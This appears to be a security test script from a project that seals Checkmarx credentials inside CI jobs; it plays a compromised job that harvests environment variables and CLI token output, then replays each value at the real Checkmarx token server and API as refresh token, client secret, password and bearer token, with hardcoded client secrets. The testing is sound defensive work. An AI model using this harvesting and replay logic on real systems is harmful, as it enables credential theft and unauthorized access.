// A thief in a sealed job (issue 28): the job's code gone bad. It collects every value it can read
// (its environment; what `checkmarx-auth token` prints in every format when CX_AUTH_SOCK is there;
// what the facade's token endpoint answers the job credential), proves they work inside the job (a
// login at the facade and an API call through it), then replays each value at the real Checkmarx
// as a bearer token, an API key (a refresh_token grant), a client secret and a password. It writes
// what it saw to REPORT as JSON and prints nothing.
//
// node sealed-thief.ts REPORT CLI_ENTRY REAL_IAM REAL_API PRODUCT
//   REAL_IAM, REAL_API  the real token server's and API's origins (never in the job's variables)

import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';

const [report, cli, realIam, realApi, product] = process.argv.slice(2) as [string, string, string, string, string];
const env = process.env;
const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
const FORMATS = ['token', 'json', 'env', 'azure', 'powershell'];
const timeout = () => AbortSignal.timeout(20_000);

/** Every string inside a JSON value, and every line's value in the CLI's variable formats. */
function valuesIn(text: string): string[] {
  const found = new Set<string>([text.trim()]);
  try {
    const walk = (value: unknown): void => {
      if (typeof value === 'string') found.add(value);
      else if (value && typeof value === 'object') Object.values(value).forEach(walk);
    };
    walk(JSON.parse(text));
  } catch {
    for (const line of text.split('\n')) {
      const value = /^(?:export \w+=|\$env:\w+ = |##vso\[[^\]]*\])'?(.*?)'?$/.exec(line)?.[1];
      if (value) found.add(value);
    }
  }
  return [...found].filter(Boolean);
}

const collected = new Set<string>(Object.values(env).filter((value): value is string => Boolean(value)));
const printed: Record<string, string> = {};
if (env.CX_AUTH_SOCK) {
  for (const format of FORMATS) {
    const out = execFileSync(process.execPath, [cli, 'token', '--format', format], { env, encoding: 'utf8', timeout: 60_000 });
    printed[format] = out;
    valuesIn(out).forEach((value) => collected.add(value));
  }
}

/** The job's login at the facade, as the product's tools do it: what it answers is collected too. */
async function loginAtFacade(): Promise<{ status: number; token?: string; apiBase?: string }> {
  let url: string;
  let body: URLSearchParams;
  let apiBase: string;
  if (env.CX_BASE_AUTH_URI) {
    url = `${env.CX_BASE_AUTH_URI}/auth/realms/${(env.CX_TENANT ?? '').toLowerCase()}/protocol/openid-connect/token`;
    body = new URLSearchParams({
      grant_type: 'client_credentials',
      client_id: env.CX_CLIENT_ID ?? '',
      client_secret: env.CX_CLIENT_SECRET ?? '',
    });
    apiBase = `${env.CX_BASE_URI}/api/projects`;
  } else {
    const sca = product === 'sca';
    url = `${env.CX_SEALED_SERVER_URL}${sca ? '/identity/connect/token' : '/cxrestapi/auth/identity/connect/token'}`;
    body = new URLSearchParams({
      grant_type: 'password',
      username: env.CX_SEALED_USERNAME ?? '',
      password: env.CX_SEALED_PASSWORD ?? '',
      scope: sca ? 'sca_api' : 'sast_rest_api',
      client_id: sca ? 'sca_resource_owner' : 'resource_owner_client',
      ...(sca ? { acr_values: `Tenant:${env.CX_TOKEN_TENANT ?? ''}` } : { client_secret: '014DF517-39D1-4453-B7B3-9930C563627C' }),
    });
    apiBase = `${env.CX_API_URL}${sca ? '/risk-management/projects' : '/projects'}`;
  }
  const response = await fetch(url, { method: 'POST', headers: FORM, body, signal: timeout() });
  const text = await response.text();
  valuesIn(text).forEach((value) => collected.add(value));
  const token = response.ok ? (JSON.parse(text) as { access_token: string }).access_token : undefined;
  return { status: response.status, ...(token ? { token } : {}), apiBase };
}

const login = await loginAtFacade();
let apiStatus = 0;
if (login.token && login.apiBase) {
  apiStatus = (await fetch(login.apiBase, { headers: { Authorization: `Bearer ${login.token}` }, signal: timeout() })).status;
}

/** Each value at the real Checkmarx, every way a credential is used; what was accepted, by how. */
async function replay(value: string): Promise<string[]> {
  const accepted: string[] = [];
  const tokenUrls = [
    `${realIam}/auth/realms/acme/protocol/openid-connect/token`,
    `${realIam}/cxrestapi/auth/identity/connect/token`,
    `${realIam}/identity/connect/token`,
  ];
  const forms: Array<[string, Record<string, string>]> = [
    ['api key', { grant_type: 'refresh_token', refresh_token: value, client_id: 'ast-app' }],
    [
      'api key (cli_client)',
      { grant_type: 'refresh_token', refresh_token: value, client_id: 'cli_client', client_secret: 'B9D84EA8-E476-4E83-A628-8A342D74D3BD' },
    ],
    ['client secret', { grant_type: 'client_credentials', client_id: 'ci-client', client_secret: value }],
    ['client secret (job client)', { grant_type: 'client_credentials', client_id: 'checkmarx-auth-job', client_secret: value }],
    [
      'password',
      {
        grant_type: 'password',
        username: 'cxadmin',
        password: value,
        client_id: 'resource_owner_client',
        client_secret: '014DF517-39D1-4453-B7B3-9930C563627C',
        scope: 'sast_rest_api',
      },
    ],
    [
      'password (SCA)',
      {
        grant_type: 'password',
        username: 'sca-user',
        password: value,
        client_id: 'sca_resource_owner',
        scope: 'sca_api',
        acr_values: 'Tenant:acme',
      },
    ],
  ];
  for (const url of tokenUrls) {
    for (const [how, fields] of forms) {
      const response = await fetch(url, { method: 'POST', headers: FORM, body: new URLSearchParams(fields), signal: timeout() });
      await response.arrayBuffer();
      if (response.ok) accepted.push(`${how} at ${url}`);
    }
  }
  if (/^[\x21-\x7e]+$/.test(value)) {
    const response = await fetch(`${realApi}/api/projects`, { headers: { Authorization: `Bearer ${value}` }, signal: timeout() });
    await response.arrayBuffer();
    if (response.ok) accepted.push('bearer at the API');
  }
  return accepted;
}

const accepted: Record<string, string[]> = {};
for (const value of collected) {
  const ways = await replay(value);
  if (ways.length > 0) accepted[value.slice(0, 12)] = ways;
}

writeFileSync(
  report,
  JSON.stringify({
    env: { ...env },
    printed,
    values: [...collected],
    login: { status: login.status, token: login.token },
    apiStatus,
    accepted,
  }),
);
